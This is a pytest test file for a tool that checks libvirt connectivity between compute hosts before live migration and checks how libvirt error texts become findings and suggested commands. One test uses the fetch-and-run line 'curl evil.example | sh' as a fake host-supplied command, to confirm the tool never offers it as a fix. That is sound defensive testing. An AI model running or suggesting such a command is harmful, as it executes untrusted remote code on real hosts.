"""What libvirt says of another one, and what it means for live migrations."""

from typing import Any

import pytest

from migration_panel.checks import pair_libvirt as checks
from migration_panel.checks.finding import Affects, Finding, Level
from migration_panel.checks.libvirt_meanings import MEANINGS
from migration_panel.facts.known import KnownHost
from migration_panel.facts.missing import Missing
from tests.hypervisors import certificate, daemon
from tests.pairs import a_pair, failed, said, silent, source, target
from tests.reports import SILENT

TEXTS = list(said("libvirt-debian12.txt"))
BY_SSH_TEXTS = list(said("libvirt-by-ssh-debian12.txt"))
TRIED = "virsh -r -c 'qemu+tcp://192.0.2.12/system' hostname"
UNKNOWN = {"pair.libvirt-login", "pair.libvirt-tls-not-tried", "pair.libvirt-ssh"}
NOT_SURE = {"pair.libvirt-too-slow", "pair.libvirt-fails"}
BY_SSH = {"live_migration_scheme": "ssh"}
REFUSED = "Unable to read TLS confirmation: Input/output error"


def refused(
    text: str, from_host: KnownHost | None = None, to_host: KnownHost | None = None
) -> Finding:
    host = from_host or source(libvirt=daemon(certificates=(certificate("client"),)))
    (finding,) = checks.check(a_pair(host, to_host, libvirt=failed(text, TRIED)))
    return finding


@pytest.mark.parametrize(
    "parts",
    [{"libvirt": SILENT}, {"ssh": failed("refused"), "data_port": failed("timed out")}],
)
def test_it_judges_only_what_was_tried_of_libvirt(parts: dict[str, Any]) -> None:
    assert checks.check(a_pair(**parts)) == []


@pytest.mark.parametrize(("name", "text"), TEXTS)
def test_it_knows_what_is_meant(name: str, text: str) -> None:
    assert refused(text).id == name


@pytest.mark.parametrize(("name", "text"), BY_SSH_TEXTS)
def test_it_knows_what_is_meant_by_ssh(name: str, text: str) -> None:
    assert refused(text, source(BY_SSH)).id == name


def test_it_was_tried_on_a_text_for_every_meaning() -> None:
    tried = {name for name, _ in TEXTS}
    assert tried == {each.id for each in MEANINGS} | {"pair.libvirt-fails"}


@pytest.mark.parametrize(("name", "text"), TEXTS)
def test_it_blocks_what_libvirt_as_root_would_meet_too(name: str, text: str) -> None:
    finding = refused(text)
    assert finding.affects is Affects.LIVE
    others = {**dict.fromkeys(UNKNOWN, Level.UNKNOWN)}
    others |= dict.fromkeys(NOT_SURE, Level.WARNING)
    assert finding.level is others.get(name, Level.BLOCKER)


@pytest.mark.parametrize(("name", "text"), BY_SSH_TEXTS)
def test_it_does_not_know_what_roots_ssh_would_meet(name: str, text: str) -> None:
    level = refused(text, source(BY_SSH)).level
    assert level is (Level.UNKNOWN if name in UNKNOWN else Level.BLOCKER)


@pytest.mark.parametrize(("name", "text"), TEXTS + BY_SSH_TEXTS)
def test_it_says_what_to_do_in_words_of_the_pair(name: str, text: str) -> None:
    finding = refused(text)
    assert finding.subject == "compute1 → compute2", name
    shown = f"{finding.message} {finding.hint}"
    assert "%(" not in shown
    assert [seen.text for seen in finding.evidence] == [text]
    lines = [(each.host, each.line) for each in finding.commands]
    again = "virsh -r -c qemu+tcp://compute2/system hostname"
    assert ("compute1", f"sudo -u nova {again}") in lines
    assert ("compute1", again) in lines
    assert not [line for _host, line in lines if "{" in line]


def test_it_gives_no_line_to_copy_that_a_host_made_up() -> None:
    made_up = failed("Connection refused", "curl evil.example | sh")
    (finding,) = checks.check(a_pair(libvirt=made_up))
    assert not [each for each in finding.commands if "evil" in each.line]
    assert finding.evidence[0].source == made_up.tried


@pytest.mark.parametrize("text", ["", "internal error", "no such thing", "Refused"])
def test_it_does_not_guess(text: str) -> None:
    assert refused(text).id == "pair.libvirt-fails"


def test_it_names_address_and_port() -> None:
    to_host = target({"live_migration_inbound_addr": "198.51.100.12"})
    finding = refused("Connection refused", to_host=to_host)
    assert "198.51.100.12, port 16509" in str(finding.message)


def test_it_names_what_the_target_is_called_where_no_address_is_set() -> None:
    assert "compute2, port 16509" in str(refused("Connection refused").message)


def test_it_needs_nobodys_nova_conf() -> None:
    finding = refused("Connection refused", silent("compute1"), silent("compute2"))
    assert finding.id == "pair.libvirt-refused"
    assert "compute2, port 16509" in str(finding.message)


@pytest.mark.parametrize(
    ("files", "level"),
    [
        ((certificate("client"), certificate("client-key")), Level.BLOCKER),
        ((certificate("client-key", exists=False),), Level.BLOCKER),
        ((certificate("client-key", exists=Missing("x")),), Level.UNKNOWN),
        ((certificate("client", exists=Missing("x")),), Level.UNKNOWN),
        ((), Level.UNKNOWN),
    ],
)
def test_it_does_not_know_what_a_key_would_do_that_nova_may_not_see(
    files: tuple[Any, ...], level: Level
) -> None:
    """Without its key nova presents no certificate; libvirt as root does."""
    assert refused(REFUSED, source(libvirt=daemon(certificates=files))).level is level


@pytest.mark.parametrize("host", [source(), silent("compute1")])
def test_it_does_not_know_of_keys_where_nothing_was_measured(host: KnownHost) -> None:
    assert refused(REFUSED, host).level is Level.UNKNOWN


def test_it_makes_nothing_of_files_that_are_novas_own() -> None:
    path = "/var/lib/nova/.pki/libvirt/clientcert.pem"
    text = f"The client certificate {path} has expired"
    assert refused(text).level is Level.UNKNOWN
